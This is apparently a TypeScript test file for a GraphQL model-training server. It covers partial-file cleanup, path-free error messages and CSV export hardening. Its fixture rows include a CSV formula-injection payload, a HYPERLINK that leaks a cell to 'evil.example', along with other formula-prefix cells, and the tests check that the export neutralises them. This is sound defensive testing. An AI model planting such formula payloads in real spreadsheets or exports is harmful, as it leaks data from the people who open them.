/**
 * Hardening (issue 12, items 9, 10 and 13): a run that fails on the server names no server path, a refused batch
 * prediction leaves no partial file, partial files of a crash are swept at start-up, and CSV exports neutralise
 * cells a spreadsheet would run as formulas.
 */
import fs from 'node:fs';
import path from 'node:path';
import Database from 'better-sqlite3';
import pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startServer, waitForRun, type TestServer } from './harness.js';
import { csvCell } from '../../src/services/predictions.js';
import { defined } from '../fixtures/defined.js';

async function multipart(server: TestServer, query: string, variables: Record<string, unknown>, csv: string) {
  const form = new FormData();
  form.set('operations', JSON.stringify({ query, variables: { ...variables, file: null } }));
  form.set('map', JSON.stringify({ 0: ['variables.file'] }));
  form.set('0', new Blob([csv]), 'rows.csv');
  const response = await fetch(`${server.url}/graphql`, {
    method: 'POST',
    body: form,
    headers: { 'graphql-preflight': '1' },
  });
  return (await response.json()) as {
    data?: Record<string, { id: string; csvUrl?: string }> | null;
    errors?: { message: string; extensions?: { code?: string; field?: string } }[];
  };
}

const HOSTILE = [
  'object_id,period,depth,label',
  '=HYPERLINK("http://evil.example/?leak="&A1;"click"),1.5,120,planet',
  '@SUM(1+1),2.5,900,false_positive',
  '-12,3.5,130,planet',
];
const rowsCsv = (n: number) =>
  [
    HOSTILE[0],
    ...Array.from(
      { length: n },
      (_, i) =>
        `obj-${i},${1 + (i % 17)},${i % 2 === 0 ? 100 + i : 900 + i},${i % 2 === 0 ? 'planet' : 'false_positive'}`,
    ),
    ...HOSTILE.slice(1),
  ].join('\n') + '\n';

/** Deletes an upload's bytes from the server's database (SQLite file or PostgreSQL). */
async function deleteStoredUpload(server: TestServer, datasetId: string): Promise<void> {
  if (server.config.databaseUrl) {
    const client = new pg.Client({ connectionString: server.config.databaseUrl });
    await client.connect();
    try {
      await client.query('delete from dataset_files where dataset_id = $1', [datasetId]);
    } finally {
      await client.end();
    }
    return;
  }
  const db = new Database(server.config.databasePath);
  try {
    db.prepare('delete from dataset_files where dataset_id = ?').run(datasetId);
  } finally {
    db.close();
  }
}

describe('partial files and CSV exports', () => {
  let server: TestServer;
  let runId: string;
  beforeAll(async () => {
    server = await startServer();
    const uploaded = await multipart(
      server,
      'mutation ($file: File!) { uploadDataset(file: $file) { id } }',
      {},
      rowsCsv(60),
    );
    const datasetId = defined(uploaded.data, 'upload answer').uploadDataset.id;
    const { createSession } = await server.data<{ createSession: { id: string } }>('mutation { createSession { id } }');
    await server.data('mutation ($input: ConfigureSessionInput!) { configureSession(input: $input) { id } }', {
      input: { sessionId: createSession.id, datasetId, modelType: 'decision_tree' },
    });
    runId = (
      await server.data<{ startTraining: { id: string } }>(
        'mutation ($s: ID!) { startTraining(sessionId: $s) { id } }',
        { s: createSession.id },
      )
    ).startTraining.id;
    expect(await waitForRun(server, runId, 60_000)).toBe('SUCCEEDED');
  }, 90_000);
  afterAll(() => server.stop());

  it('a refused predictBatch leaves no .part file in the upload folder', async () => {
    const before = fs.readdirSync(server.config.uploadDir);
    const refused = await multipart(
      server,
      'mutation ($r: ID!, $file: File) { predictBatch(runId: $r, file: $file, candidatesOnly: true) { id } }',
      { r: runId },
      rowsCsv(5),
    );
    expect(refused.errors?.[0].extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'candidatesOnly' });
    const bad = await multipart(
      server,
      'mutation ($r: ID!, $file: File) { predictBatch(runId: $r, file: $file) { id } }',
      { r: runId },
      'not,a\ncsv\u0000\n',
    );
    expect(bad.errors?.[0].extensions?.code).toMatch(/BAD_USER_INPUT|UNSUPPORTED_MEDIA_TYPE/);
    expect(fs.readdirSync(server.config.uploadDir)).toEqual(before);
  });

  it('the CSV export neutralises formula cells and keeps plain numbers', async () => {
    const batch = await multipart(
      server,
      'mutation ($r: ID!, $file: File) { predictBatch(runId: $r, file: $file) { id csvUrl } }',
      { r: runId },
      rowsCsv(3),
    );
    expect(batch.errors).toBeUndefined();
    const csv = await (await fetch(`${server.url}${defined(batch.data, 'batch answer').predictBatch.csvUrl}`)).text();
    const firstCells = csv
      .trim()
      .split('\n')
      .slice(1)
      .map((line) => line.split(',')[0]);
    expect(firstCells).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1;""click"")"`);
    expect(firstCells).toContain("'@SUM(1+1)");
    expect(firstCells).toContain('-12');
    expect(csv).not.toMatch(/(^|,)[=@]/m);
  });

  it('csvCell: formula prefixes, quoting, numbers', () => {
    expect(csvCell('=1+2')).toBe("'=1+2");
    expect(csvCell('+cmd')).toBe("'+cmd");
    expect(csvCell('-1.5e3')).toBe('-1.5e3');
    expect(csvCell('\tx')).toBe("'\tx");
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('K00752.01')).toBe('K00752.01');
  });
});

describe('start-up sweeps partial files of a crash', () => {
  it('removes *.part files from the upload folder and keeps the rest', async () => {
    const first = await startServer();
    await first.stop();
    fs.writeFileSync(path.join(first.config.uploadDir, 'ds_crashed.csv.part'), 'half an upload');
    fs.writeFileSync(path.join(first.config.uploadDir, 'pred_x.predict.csv.part'), 'half a file');
    fs.writeFileSync(path.join(first.config.uploadDir, 'ds_kept.csv'), 'a,b\n');
    const second = await startServer({ dir: first.dir });
    try {
      expect(fs.readdirSync(second.config.uploadDir).sort()).toEqual(['ds_kept.csv']);
    } finally {
      await second.stop();
    }
  });
});

describe('a run that fails on the server says what to do, never a server path', () => {
  it('an upload whose file vanished before its queued run starts: FAILED with advice, no path, no errno', async () => {
    const server = await startServer({ env: { TRAINING_CONCURRENCY: '1' } });
    try {
      const uploaded = await multipart(
        server,
        'mutation ($file: File!) { uploadDataset(file: $file) { id } }',
        {},
        rowsCsv(60),
      );
      const datasetId = defined(uploaded.data, 'upload answer').uploadDataset.id;
      const start = async (input: Record<string, unknown>) => {
        const { createSession } = await server.data<{ createSession: { id: string } }>(
          'mutation { createSession { id } }',
        );
        await server.data('mutation ($input: ConfigureSessionInput!) { configureSession(input: $input) { id } }', {
          input: { sessionId: createSession.id, ...input },
        });
        return (
          await server.data<{ startTraining: { id: string } }>(
            'mutation ($s: ID!) { startTraining(sessionId: $s) { id } }',
            { s: createSession.id },
          )
        ).startTraining.id;
      };
      // The only training slot is busy, so the upload's run waits in the queue while its file disappears.
      const busy = await start({
        datasetId: 'kepler',
        modelType: 'random_forest',
        hyperparameters: { n_estimators: 1000 },
      });
      const queued = await start({ datasetId, modelType: 'decision_tree' });
      for (const name of fs.readdirSync(server.config.uploadDir))
        if (name.startsWith(datasetId)) fs.rmSync(path.join(server.config.uploadDir, name));
      // The folder is only a cache of the bytes in the database (which a missing file is written from again): the
      // upload is gone when they are gone too.
      await deleteStoredUpload(server, datasetId);
      await server.data('mutation ($r: ID!) { cancelTraining(runId: $r) { id } }', { r: busy });
      expect(await waitForRun(server, queued, 60_000)).toBe('FAILED');
      const { trainingRun } = await server.data<{ trainingRun: { error: string } }>(
        'query ($r: ID!) { trainingRun(id: $r) { error } }',
        { r: queued },
      );
      expect(trainingRun.error).toMatch(/no longer on the server\. Upload it again/);
      expect(trainingRun.error).not.toMatch(/\/|ENOENT|stat|\.csv/);
    } finally {
      await server.stop();
    }
  }, 90_000);
});
